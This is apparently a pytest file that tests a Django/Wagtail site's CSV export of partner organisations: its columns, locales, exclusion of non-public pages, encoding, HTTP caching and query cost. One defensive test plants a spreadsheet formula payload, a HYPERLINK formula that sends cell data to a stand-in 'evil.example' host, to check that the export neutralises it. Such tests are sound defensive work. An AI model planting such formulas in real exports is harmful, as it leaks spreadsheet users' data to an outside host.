"""The partners as a table: the same pages as everywhere, in a form that spreadsheets open and cannot be hurt by."""

import csv
import io

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from wagtail.models import PageViewRestriction

from stories.models import PartnerPage
from tests import factories
from tests.web.api import API, ask, problem_with, table

pytestmark = pytest.mark.django_db

HEADINGS = ["name", "kind", "places", "issues", "languages", "website", "url"]


def rows(locale="en"):
    """The table as a program reads it, a dict for each partner."""
    return list(csv.DictReader(io.StringIO(table("partners", locale=locale), newline="")))


def names(locale="en"):
    return [row["name"] for row in rows(locale)]


def get(locale="en", **headers):
    return Client().get(f"{API}partners.csv", {"locale": locale}, headers=headers)


# What is in it


def test_a_row_says_what_the_partners_json_says(settings):
    ally = factories.partner(title='Neighbours "for" Justice, Riverton', issues=["detention", "courts"])
    page = ask(f"pages/{ally.pk}/")
    (row,) = rows()
    assert list(row) == HEADINGS
    assert row == {
        "name": page["title"],
        "kind": page["kind"],
        "places": " | ".join(page["places"]),
        "issues": " | ".join(page["issues"]),
        "languages": " | ".join(page["languages"]),
        "website": page["website"],
        "url": f"{settings.WAGTAILADMIN_BASE_URL}{page['url']}",
    }
    assert row["issues"] == "detention | courts"


def test_a_language_without_partners_has_headings_only():
    factories.language("es")
    factories.partner()
    assert table("partners", locale="es") == ",".join(f'"{name}"' for name in HEADINGS) + "\r\n"


@pytest.mark.usefixtures("spanish")
def test_a_translation_is_in_its_own_languages_table():
    ally = factories.partner(title="Neighbours")
    spanish = factories.translated(ally, "es")
    assert [row["url"].rpartition("/es/")[2] for row in rows("es")] == [spanish.url.removeprefix("/es/")]
    assert "/en/" in rows("en")[0]["url"]


def test_partners_come_by_title_without_regard_to_case_and_accents():
    for title in ("zeta", "Étoile", "Alpha", "beta"):
        factories.partner(title=title)
    assert names() == ["Alpha", "beta", "Étoile", "zeta"]
    assert get().content == get().content


def test_partners_of_one_name_come_in_the_order_in_which_they_were_made():
    first, second = (factories.partner(title="Neighbours") for _ in "ab")
    assert [row["url"].rstrip("/").rpartition("/")[2] for row in rows()] == [first.slug, second.slug]


# What never is


@pytest.mark.parametrize("state", ["draft", "in_review", "rejected", "scheduled", "taken_down"])
def test_a_partner_that_is_not_public_is_in_no_table(state):
    factories.partner(title="In the open")
    factories.partner(title="Not public", state=state)
    assert names() == ["In the open"]


def test_a_private_partner_is_in_no_table():
    ally = factories.partner(title="Private")
    factories.partner(title="In the open")
    PageViewRestriction.objects.create(page=ally, restriction_type=PageViewRestriction.LOGIN)
    assert names() == ["In the open"]


def test_a_draft_or_a_row_written_past_the_law_changes_nothing_in_the_table():
    ally = factories.partner(title="Approved")
    before = table("partners", locale="en")
    factories.edit(ally, title="Draft", website="https://draft.example.org/")
    PartnerPage.objects.filter(pk=ally.pk).update(title="Smuggled", website="https://smuggled.example.org/")
    assert table("partners", locale="en") == before


# What a spreadsheet makes of it


def test_the_table_is_utf_8_with_a_mark_and_its_lines_end_as_rfc_4180_wants():
    factories.partner(title="جيران")
    content = get().content
    assert content.startswith(b"\xef\xbb\xbf")
    text = content.decode("utf-8-sig")
    assert "جيران" in text
    assert text.count("\r\n") == text.count("\n") == text.count("\r") == 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_cell_is_a_formula(start):
    factories.partner(title="A partner", places=f"{start}SUM(A:A)" if start.strip() else "Riverton")
    evil = f'{start}HYPERLINK("https://evil.example/?"&A1;"x")'
    factories.partner(title=evil)
    (row,) = [row for row in rows() if "evil" in row["name"]]
    assert row["name"] == f"'{evil}"
    if start.strip():
        assert f"'{start}SUM(A:A)" in [row["places"] for row in rows()]
    for line in csv.reader(io.StringIO(table("partners", locale="en"), newline="")):
        assert not any(cell.startswith(start) for cell in line)


def test_a_quote_a_comma_or_a_line_in_a_name_stays_within_its_cell():
    for title in ('Say "yes", they said', "A; B", "One\nTwo"):
        factories.partner(title=title)
    assert sorted(names()) == sorted(['Say "yes", they said', "A; B", "One\nTwo"])


# How it is asked for


def test_a_parameter_that_is_unknown_missing_or_repeated_is_named():
    factories.partner()
    assert set(problem_with("partners.csv", locale="en", limit="5")) == {"limit"}
    assert set(problem_with("partners.csv")) == {"locale"}
    assert set(problem_with("partners.csv", locale=["en", "es"])) == {"locale"}
    assert "en" in problem_with("partners.csv", locale="tlh")["locale"]


def test_the_table_is_asked_for_again_like_every_answer_of_the_api():
    factories.partner()
    first = get()
    assert first["Content-Type"] == "text/csv; charset=utf-8; header=present"
    assert first["Content-Disposition"] == 'attachment; filename="partners-en.csv"'
    assert (first["Cache-Control"], first["Access-Control-Allow-Origin"]) == ("no-cache", "*")
    assert first["Content-Language"] == "en"
    again = get(if_none_match=first["ETag"])
    assert (again.status_code, again.content) == (304, b"")
    factories.partner()
    assert get(if_none_match=first["ETag"]).status_code == 200
    head = Client().head(f"{API}partners.csv?locale=en")
    assert (head.status_code, head.content) == (200, b"")
    assert Client().post(f"{API}partners.csv?locale=en").status_code == 405
    assert Client().options(f"{API}partners.csv").status_code == 204


def test_the_table_costs_no_more_queries_with_more_partners():
    factories.partner()
    costs = []
    for _ in range(2):
        names()
        with CaptureQueriesContext(connection) as queries:
            names()
        costs.append(len(queries))
        for _ in range(3):
            factories.partner()
    assert costs[0] == costs[1] <= 3
